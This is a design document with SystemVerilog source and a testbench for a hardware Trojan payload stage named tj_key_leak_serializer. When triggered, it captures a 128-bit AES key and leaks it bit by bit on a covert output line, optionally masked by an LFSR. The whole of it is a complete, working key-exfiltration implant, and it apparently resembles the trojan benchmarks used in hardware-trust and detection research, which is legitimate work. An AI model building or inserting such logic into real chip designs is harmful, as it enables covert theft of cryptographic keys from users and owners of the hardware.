tj_key_leak_serializer: RTL and testbench
=========================================

# tj_key_leak_serializer

Trojan payload stage that sits directly downstream of the trigger FSM in the AES-T2000 design. Once the trigger output asserts, the block captures the 128-bit AES key and serialises it MSB-first onto a single leak line. Each bit is optionally whitened by a 16-bit LFSR and held for a programmable number of cycles. It then reports completion and re-arms only after the trigger deasserts.

## Interface
- HOLD_CYCLES, 4, clock cycles each leak bit is held; legal range ≥1
- LEAK_BITS, 128, number of key bits emitted (MSB first); legal range 1..128
- WHITEN, 1, when 1 the leak bit is XORed with the LFSR output bit; when 0 the raw key bit is emitted
- LFSR_SEED, 16'hACE1, LFSR load value at each capture; must be nonzero
- clk  input  1  system clock, all logic on rising edge
- rst  input  1  synchronous, active-high reset
- tj_trig  input  1  trigger level from the upstream trigger FSM (may be glitchy/latch-derived)
- key  input  128  AES key; sampled only at capture
- leak_bit  output  1  serial leak data
- leak_valid  output  1  high while leak_bit carries a payload bit
- leak_done  output  1  high in DONE state
- busy  output  1  high in SHIFT state

## Operation
- tj_trig is registered once into trig_q before any use; key is never used combinationally.
- States: IDLE, SHIFT, DONE.
- IDLE → SHIFT when trig_q=1. On that edge:
  - key_sr ← key
  - lfsr ← LFSR_SEED
  - bit_cnt ← 0
  - hold_cnt ← 0
- SHIFT behaviour:
  - leak_bit = key_sr[127] ^ (WHITEN ? lfsr[15] : 0).
  - hold_cnt increments each cycle.
  - When hold_cnt = HOLD_CYCLES-1: hold_cnt ← 0, key_sr ← key_sr<<1, lfsr advances, bit_cnt increments.
  - When the last bit's hold ends (bit_cnt = LEAK_BITS-1 and hold_cnt = HOLD_CYCLES-1): SHIFT → DONE.
- LFSR: Fibonacci, fb = l[15]^l[13]^l[12]^l[10]; l ← {l[14:0], fb}. Advances only on bit boundaries.
- DONE → IDLE when trig_q=0. While trig_q stays 1, the block remains in DONE; no retrigger.
- tj_trig deasserting during SHIFT has no effect; emission always completes.
- Outputs:
  - leak_valid = busy = (state==SHIFT)
  - leak_done = (state==DONE)
  - leak_bit = 0 outside SHIFT
- Reset, including mid-SHIFT: state IDLE, trig_q=0, key_sr=0, lfsr=LFSR_SEED, counters 0, all outputs 0 from the next cycle.
- Widths: bit_cnt is $clog2(LEAK_BITS+1) bits and hold_cnt is $clog2(HOLD_CYCLES+1) bits, so neither counter wraps.

## Timing
- tj_trig sampled high at edge N → trig_q=1 after N → capture at edge N+1. leak_valid is high from edge N+1.
- Capture latency from trigger sample: 1 cycle.
- Each bit occupies exactly HOLD_CYCLES consecutive cycles.
- SHIFT lasts LEAK_BITS·HOLD_CYCLES cycles.
- leak_done rises at edge N+1+LEAK_BITS·HOLD_CYCLES.
- Earliest IDLE re-entry: the edge after trig_q is sampled low in DONE. A new capture then requires trig_q=1 at a later edge, giving a minimum 1 idle cycle between runs.
- A single-cycle tj_trig pulse that is captured by trig_q starts a full run.
- A glitch between edges is ignored.

## Structure
- Shared package tj_pkg holds:
  - the state enum (IDLE/SHIFT/DONE)
  - the LFSR tap constants (15, 13, 12, 10)
  - the default seed 16'hACE1
- Shared so the trigger and any future payload variants use identical encodings.
- One sub-module, tj_lfsr16, with ports:
  - clk, rst, load, seed[15:0], adv
  - out (= l[15]), state[15:0]
- The top-level module contains only the FSM, counters and shift register.

## Test plan
- Key 128'h2b7e1516_28aed2a6_abf71588_09cf4f3c, WHITEN=0, HOLD_CYCLES=1, tj_trig pulse 1 cycle → leak_bit sequence begins 0,0,1,0,1,0,1,1 (the bits of 0x2b), leak_valid high for exactly 128 cycles, then leak_done=1.
- Same key, WHITEN=1, HOLD_CYCLES=1 → first leak_bit 1 (0^ACE1[15]=1), LFSR becomes 16'h59C3, second leak_bit 0 (0^0).
- HOLD_CYCLES=4, LEAK_BITS=8, key MSB byte 8'hA5, WHITEN=0 → leak_bit 1,0,1,0,0,1,0,1 with each bit held 4 cycles, busy for 32 cycles, leak_done at capture+32.
- tj_trig held high across DONE → stays in DONE with no second run. Drop tj_trig, then raise again → new capture with the new key value.
- rst asserted at bit 40 of a run → next cycle all outputs 0 and state IDLE. A later tj_trig restarts from key bit 127 with a fresh seed.
- Key changes during SHIFT → emitted bits reflect only the key captured at start.

Source files
------------

// File: rtl/tj_key_leak_serializer_pkg.sv
// ============================================================================
// Package : tj_pkg
// Shared encodings for the trojan trigger / payload stages: state enum,
// LFSR taps and default seed.
// Revision: 1.0
// ============================================================================
`default_nettype none

package tj_pkg;

    typedef enum logic [1:0] {
        IDLE  = 2'd0,
        SHIFT = 2'd1,
        DONE  = 2'd2
    } tj_state_e;

    localparam int          c_lfsr_tap_a        = 15;
    localparam int          c_lfsr_tap_b        = 13;
    localparam int          c_lfsr_tap_c        = 12;
    localparam int          c_lfsr_tap_d        = 10;
    localparam logic [15:0] c_lfsr_seed_default = 16'hACE1;

    // One Fibonacci step: shift left, feedback enters at bit 0.
    function automatic logic [15:0] lfsr_step(input logic [15:0] l);
        return {l[14:0], l[c_lfsr_tap_a] ^ l[c_lfsr_tap_b] ^ l[c_lfsr_tap_c] ^ l[c_lfsr_tap_d]};
    endfunction

endpackage

`default_nettype wire

// File: rtl/tj_lfsr16.sv
// ============================================================================
// Module  : tj_lfsr16
// 16-bit Fibonacci whitening LFSR with synchronous load and step enable.
// Revision: 1.0
// ============================================================================
`default_nettype none

module tj_lfsr16
    import tj_pkg::*;
(
    input  logic        clk,
    input  logic        rst,
    input  logic        load,
    input  logic [15:0] seed,
    input  logic        adv,
    output logic        out,
    output logic [15:0] state
);

    logic [15:0] r_lfsr;

    always_ff @(posedge clk) begin
        if (rst || load) begin
            r_lfsr <= seed;
        end else if (adv) begin
            r_lfsr <= lfsr_step(r_lfsr);
        end
    end

    assign out   = r_lfsr[15];
    assign state = r_lfsr;

endmodule

`default_nettype wire

// File: rtl/tj_key_leak_serializer.sv
// ============================================================================
// Module  : tj_key_leak_serializer
// Captures the key on trigger and leaks it MSB-first, optionally whitened.
// Revision: 1.0
// ============================================================================
`default_nettype none

module tj_key_leak_serializer
    import tj_pkg::*;
#(
    parameter int          HOLD_CYCLES = 4,
    parameter int          LEAK_BITS   = 128,
    parameter int          WHITEN      = 1,
    parameter logic [15:0] LFSR_SEED   = c_lfsr_seed_default
) (
    input  logic         clk,
    input  logic         rst,
    input  logic         tj_trig,
    input  logic [127:0] key,
    output logic         leak_bit,
    output logic         leak_valid,
    output logic         leak_done,
    output logic         busy
);

    localparam int c_bit_w  = $clog2(LEAK_BITS + 1);
    localparam int c_hold_w = $clog2(HOLD_CYCLES + 1);

    tj_state_e            r_state;
    tj_state_e            w_state_nxt;
    logic                 r_trig_q;
    logic [127:0]         r_key_sr;
    logic [c_bit_w-1:0]   r_bit_cnt;
    logic [c_hold_w-1:0]  r_hold_cnt;
    logic                 w_capture;
    logic                 w_bit_end;
    logic                 w_last_bit;
    logic                 w_lfsr_out;
    logic [15:0]          w_lfsr_state_unused;

    always_ff @(posedge clk) begin
        if (rst) begin
            r_state  <= IDLE;
            r_trig_q <= 1'b0;
        end else begin
            r_state  <= w_state_nxt;
            r_trig_q <= tj_trig;
        end
    end

    always_comb begin
        w_state_nxt = r_state;
        w_capture   = 1'b0;
        w_bit_end   = (r_state == SHIFT) && (r_hold_cnt == c_hold_w'(HOLD_CYCLES - 1));
        w_last_bit  = w_bit_end && (r_bit_cnt == c_bit_w'(LEAK_BITS - 1));
        case (r_state)
            IDLE: begin
                if (r_trig_q) begin
                    w_state_nxt = SHIFT;
                    w_capture   = 1'b1;
                end
            end
            SHIFT: begin
                // Trigger level is ignored here: a started emission always completes.
                if (w_last_bit) begin
                    w_state_nxt = DONE;
                end
            end
            DONE: begin
                if (!r_trig_q) begin
                    w_state_nxt = IDLE;
                end
            end
            default: w_state_nxt = IDLE;
        endcase
    end

    always_ff @(posedge clk) begin
        if (rst) begin
            r_key_sr   <= '0;
            r_bit_cnt  <= '0;
            r_hold_cnt <= '0;
        end else if (w_capture) begin
            r_key_sr   <= key;
            r_bit_cnt  <= '0;
            r_hold_cnt <= '0;
        end else if (r_state == SHIFT) begin
            if (w_bit_end) begin
                r_hold_cnt <= '0;
                r_key_sr   <= {r_key_sr[126:0], 1'b0};
                r_bit_cnt  <= r_bit_cnt + c_bit_w'(1);
            end else begin
                r_hold_cnt <= r_hold_cnt + c_hold_w'(1);
            end
        end
    end

    tj_lfsr16 u_lfsr (
        .clk   (clk),
        .rst   (rst),
        .load  (w_capture),
        .seed  (LFSR_SEED),
        .adv   (w_bit_end),
        .out   (w_lfsr_out),
        .state (w_lfsr_state_unused)
    );

    assign busy       = (r_state == SHIFT);
    assign leak_valid = busy;
    assign leak_done  = (r_state == DONE);
    assign leak_bit   = busy & (r_key_sr[127] ^ ((WHITEN != 0) & w_lfsr_out));

endmodule

`default_nettype wire

// File: tb/tb_tj_key_leak_serializer.sv
// ============================================================================
// Module  : tb_tj_key_leak_serializer
// Scoreboard bench: three parameterisations share stimulus, each with its own
// expected-bit queue filled from a behavioural model at trigger time.
// Revision: 1.0
// ============================================================================
`default_nettype none

module tb_tj_key_leak_serializer;

    localparam int NDUT = 3;
    localparam int HC [NDUT] = '{1, 4, 3};
    localparam int LB [NDUT] = '{128, 8, 16};
    localparam int WH [NDUT] = '{1, 0, 1};

    logic              clk = 1'b0;
    logic              rst;
    logic              tj_trig;
    logic [127:0]      key;
    logic [NDUT-1:0]   lb;
    logic [NDUT-1:0]   va;
    logic [NDUT-1:0]   ld;
    logic [NDUT-1:0]   bz;

    bit exp_q [NDUT][$];
    int n_cmp = 0;
    int n_err = 0;

    always #5 clk = ~clk;

    task automatic chk(input string nm, input logic [127:0] act, input logic [127:0] exp);
        n_cmp++;
        if (act !== exp) begin
            n_err++;
            $display("FAIL %s: got %0h expected %0h (t=%0t)", nm, act, exp, $time);
        end
    endtask

    function automatic logic [15:0] lfsr_next(input logic [15:0] x);
        return {x[14:0], x[15] ^ x[13] ^ x[12] ^ x[10]};
    endfunction

    function automatic logic [127:0] rand128();
        return {$urandom, $urandom, $urandom, $urandom};
    endfunction

    // Expected stream: key bits MSB-first, XOR seed-started LFSR MSB, each held HC cycles.
    task automatic push_model(input logic [127:0] k, input int g);
        logic [15:0] l;
        bit          b;
        l = 16'hACE1;
        for (int i = 0; i < LB[g]; i++) begin
            b = k[127 - i] ^ ((WH[g] != 0) & l[15]);
            for (int h = 0; h < HC[g]; h++) exp_q[g].push_back(b);
            l = lfsr_next(l);
        end
    endtask

    for (genvar g = 0; g < NDUT; g++) begin : g_dut
        bit prev_v;

        tj_key_leak_serializer #(
            .HOLD_CYCLES (HC[g]),
            .LEAK_BITS   (LB[g]),
            .WHITEN      (WH[g]),
            .LFSR_SEED   (16'hACE1)
        ) u_dut (
            .clk        (clk),
            .rst        (rst),
            .tj_trig    (tj_trig),
            .key        (key),
            .leak_bit   (lb[g]),
            .leak_valid (va[g]),
            .leak_done  (ld[g]),
            .busy       (bz[g])
        );

        always @(negedge clk) begin
            bit e;
            if (rst) begin
                prev_v = 1'b0;
            end else begin
                if (va[g]) begin
                    chk($sformatf("dut%0d_expected_pending", g), exp_q[g].size() != 0, 1);
                    if (exp_q[g].size() != 0) begin
                        e = exp_q[g].pop_front();
                        chk($sformatf("dut%0d_leak_bit", g), lb[g], e);
                    end
                    chk($sformatf("dut%0d_busy", g), bz[g], 1);
                    chk($sformatf("dut%0d_done_in_shift", g), ld[g], 0);
                end else begin
                    chk($sformatf("dut%0d_idle_bit", g), lb[g], 0);
                    chk($sformatf("dut%0d_idle_busy", g), bz[g], 0);
                    if (prev_v) begin
                        chk($sformatf("dut%0d_done_after_shift", g), ld[g], 1);
                        chk($sformatf("dut%0d_stream_drained", g), exp_q[g].size(), 0);
                    end
                end
                prev_v = va[g];
            end
        end
    end

    task automatic run(input logic [127:0] k, input int pulse, input bit hold_high);
        key     = k;
        tj_trig = 1'b1;
        for (int g = 0; g < NDUT; g++) push_model(k, g);
        @(posedge clk); #1;
        chk("pre_capture_valid", va, 3'b000);
        if (pulse == 1 && !hold_high) tj_trig = 1'b0;
        @(posedge clk); #1;
        chk("capture_latency_valid", va, 3'b111);
        chk("capture_busy", bz, 3'b111);
        key = rand128();
        if (!hold_high) tj_trig = 1'b0;
    endtask

    task automatic wait_idle();
        int n;
        n = 0;
        while ((exp_q[0].size() != 0 || exp_q[1].size() != 0 || exp_q[2].size() != 0
                || va != 0 || ld != 0) && n < 400) begin
            @(posedge clk); #1;
            if (n % 7 == 3) key = rand128();
            n++;
        end
        chk("run_completes", n < 400, 1);
        repeat (2) @(posedge clk);
        #1;
    endtask

    initial begin
        #200000;
        $display("FAIL watchdog: got timeout expected finish");
        $fatal(1, "watchdog");
    end

    initial begin
        rst     = 1'b1;
        tj_trig = 1'b0;
        key     = '0;
        repeat (3) @(posedge clk);
        #1;
        rst = 1'b0;
        chk("reset_valid", va, 0);
        chk("reset_done", ld, 0);
        chk("reset_bit", lb, 0);

        run(128'h2b7e1516_28aed2a6_abf71588_09cf4f3c, 1, 1'b0);
        wait_idle();

        run({8'hA5, 120'(rand128())}, 2, 1'b0);
        wait_idle();

        // Trigger held across DONE: one run only, then re-arm on deassert.
        run(rand128(), 1, 1'b1);
        repeat (LB[0] * HC[0] + 10) @(posedge clk);
        #1;
        chk("held_trig_stays_done", ld, 3'b111);
        chk("held_trig_no_rerun", va, 3'b000);
        tj_trig = 1'b0;
        repeat (3) @(posedge clk);
        #1;
        chk("done_clears_on_release", ld, 3'b000);

        // Glitch entirely between clock edges must not start a run.
        #1 tj_trig = 1'b1;
        #2 tj_trig = 1'b0;
        repeat (3) @(posedge clk);
        #1;
        chk("glitch_ignored", va, 3'b000);

        // Reset partway through a run.
        run(rand128(), 1, 1'b0);
        repeat (38) @(posedge clk);
        #1;
        rst = 1'b1;
        for (int g = 0; g < NDUT; g++) exp_q[g].delete();
        @(posedge clk); #1;
        rst = 1'b0;
        chk("midrun_reset_valid", va, 0);
        chk("midrun_reset_done", ld, 0);
        chk("midrun_reset_bit", lb, 0);
        repeat (2) @(posedge clk);
        #1;

        for (int r = 0; r < 5; r++) begin
            run(rand128(), int'($urandom_range(1, 2)), 1'b0);
            wait_idle();
        end

        for (int g = 0; g < NDUT; g++) chk($sformatf("dut%0d_final_drain", g), exp_q[g].size(), 0);
        $display("*** SUMMARY: %0d compared / %0d mismatched ***", n_cmp, n_err);
        $finish;
    end

endmodule

`default_nettype wire
